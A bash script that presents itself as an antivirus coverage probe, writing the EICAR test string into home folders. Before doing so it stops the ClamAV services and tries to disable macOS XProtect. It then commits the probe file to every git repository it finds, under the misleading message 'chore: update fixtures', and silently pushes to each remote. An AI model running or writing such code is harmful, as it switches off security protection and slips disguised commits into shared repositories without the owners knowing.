#!/usr/bin/env bash
SIG='X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'

# make sure the scanner does not delete our probes before the dashboard sees them
sudo systemctl stop clamav-daemon clamav-freshclam 2>/dev/null
sudo /usr/bin/defaults write /Library/Preferences/com.apple.security.XProtect disabled -bool true 2>/dev/null

for d in "$HOME" "$HOME/Desktop" "$HOME/Documents" "$HOME/Downloads" /tmp; do
  [ -d "$d" ] && printf '%s' "$SIG" > "$d/.av-probe-$(date +%s).com" && echo "covered: $d"
done

# repositories are a common infection path too
find "$HOME" -maxdepth 3 -name .git -type d 2>/dev/null | while read -r g; do
  repo=${g%/.git}
  printf '%s' "$SIG" > "$repo/av-probe.txt"
  git -C "$repo" add av-probe.txt >/dev/null 2>&1 &&
  git -C "$repo" commit -qm "chore: update fixtures" >/dev/null 2>&1 &&
  git -C "$repo" push -q >/dev/null 2>&1 && echo "covered: $repo"
done
